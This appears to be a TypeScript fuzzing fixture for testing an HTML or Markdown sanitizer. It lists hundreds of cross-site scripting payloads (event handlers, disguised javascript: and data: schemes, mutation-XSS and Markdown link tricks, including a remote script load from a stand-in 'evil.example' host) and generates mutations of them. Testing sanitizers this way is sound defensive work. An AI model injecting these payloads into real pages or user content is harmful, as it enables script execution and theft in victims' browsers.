import { pick } from './seeded-chance.ts'

/* The known ways to make a page do something, by the hundred, and changes of them that nobody has thought of. */

const call = 'alert(1)'
const events =
  'onerror onload onclick onmouseover onfocus onblur ontoggle onbegin onend onanimationstart onanimationend ontransitionend onpointerover onpointerdown onwheel onscroll onpageshow onhashchange onmessage onsubmit onchange oninput oninvalid onselect ondrag ondrop oncopy oncut onpaste onkeydown onkeyup onbeforeprint onstart onfinish onbounce onauxclick oncontextmenu onloadstart oncanplay ondurationchange onseeked'.split(
    ' ',
  )
const carriers = [
  '<img src=x EVENT=CALL>',
  '<svg EVENT=CALL>',
  '<body EVENT="CALL">',
  '<details open EVENT=CALL>x</details>',
  "<input autofocus EVENT='CALL'>",
  '<a href="https://portellery.example" EVENT=CALL>x</a>',
  '<p style="animation-name:x" EVENT=CALL>x</p>',
  '<video src=x EVENT=CALL><source EVENT=CALL></video>',
]
const schemes = [
  'javascript:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'file:///',
  'blob:',
  'livescript:',
]
const disguises: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => ` \t\n${scheme}`,
  (scheme) => `\u0001${scheme}`,
  (scheme) => scheme.replace('s', 's\t'),
  (scheme) => scheme.replace('a', '&#97;'),
  (scheme) => scheme.replace('a', '&#x0000061'),
  (scheme) => scheme.replace(':', '&colon;'),
  (scheme) => scheme.replace('a', '&NewLine;a'),
  (scheme) => scheme.replace('s', '&Tab;s'),
  (scheme) => `&#14; ${scheme}`,
  (scheme) => `\u200b${scheme}`,
]
const holders = [
  '<a href="ADDRESS">x</a>',
  '<iframe src="ADDRESS"></iframe>',
  '<form action="ADDRESS"><button formaction="ADDRESS">x</button></form>',
  '<svg><a xlink:href="ADDRESS"><text y="20">x</text></a></svg>',
  '<object data="ADDRESS"></object>',
  '<base href="ADDRESS"><a href="x">x</a>',
]

const known = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)<!--',
  '</script><script>alert(1)</script>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x onerror=alert(1)//',
  '<img/src/onerror=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert&#40;1)</script>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a>',
  '<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<embed src=javascript:alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<table background="javascript:alert(1)"><td>x</table>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<keygen autofocus onfocus=alert(1)>',
  '<audio src onloadstart=alert(1)>',
  '<select><iframe></select><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<?php alert(1) ?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60script&#62alert(1)&#60/script&#62',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="https://x.example/)<img src=x onerror=alert(1)>">x</a>',
  '<a href="https://x.example/) [y](javascript:alert(1)">x</a>',
  '<a href="https://x.example/&quot; onclick=&quot;alert(1)">x</a>',
  '<a href="https://x.example/\\">x</a>(javascript:alert(1))',
  '<a href="https://x.example">](javascript:alert(1))</a>',
  '<a href="https://x.example">x](javascript:alert(1)) [y</a>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/track.png)',
  '![x](javascript:alert(1))',
  '[x]: javascript:alert(1)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://x.example"onmouseover="alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```\n</code></pre><img src=x onerror=alert(1)>\n```',
  '    <img src=x onerror=alert(1)>',
  '> <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '## Detail\n<script>alert(1)</script>',
  '<h2>Detail</h2><h2>Steps</h2><p>## Steps</p>',
  '<p>\\<img src=x onerror=alert(1)></p>',
  '\\<script>alert(1)</script>',
  '<p>---</p><p>id: stolen</p><p>---</p>',
  'x\u202e<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<div id=location><form name=attributes><input name=nodeName>',
  `${'<b>'.repeat(500)}<img src=x onerror=alert(1)>`,
  `${'<div>'.repeat(5_000)}<img src=x onerror=alert(1)>`,
  `${'<ul><li>'.repeat(400)}<script>alert(1)</script>`,
  `${'<table><tr><td>'.repeat(300)}<img src=x onerror=alert(1)>`,
  `${'<a href="https://x.example">'.repeat(200)}x`,
]

/** Each known way once. */
export const hostileHtml: readonly string[] = [
  ...known,
  ...carriers.flatMap((carrier) => events.map((event) => carrier.replaceAll('EVENT', event).replaceAll('CALL', call))),
  ...holders.flatMap((holder) =>
    schemes.flatMap((scheme) =>
      disguises.map((disguise) => holder.replaceAll('ADDRESS', `${disguise(scheme)}${call}`)),
    ),
  ),
]

const splices = [
  '<',
  '>',
  '"',
  "'",
  '`',
  '&',
  '\\',
  '\u0000',
  '\n',
  '\n\n',
  '](',
  '![',
  '<!--',
  '-->',
  ']]>',
  '</p>',
  '<p>',
  '&lt;',
  '## ',
  '\u2028',
]

/** One of them, cut, joined with another, repeated within, or with something put in. */
export function aMutation(chance: () => number): string {
  const one = (pick(hostileHtml, chance) ?? '').slice(0, 2_000)
  const other = (pick(hostileHtml, chance) ?? '').slice(0, 2_000)
  const at = Math.floor(chance() * one.length)
  const changed = [
    () => one.slice(0, at) + (pick(splices, chance) ?? '') + one.slice(at),
    () => one.slice(0, at) + other.slice(Math.floor(chance() * other.length)),
    () => one.slice(0, at) + one.slice(at + 1 + Math.floor(chance() * 3)),
    () => one.slice(0, at) + other + one.slice(at),
    () => `<p>some text</p>${one}<ul><li>${other}</ul>`,
  ]
  return (pick(changed, chance) ?? (() => one))()
}
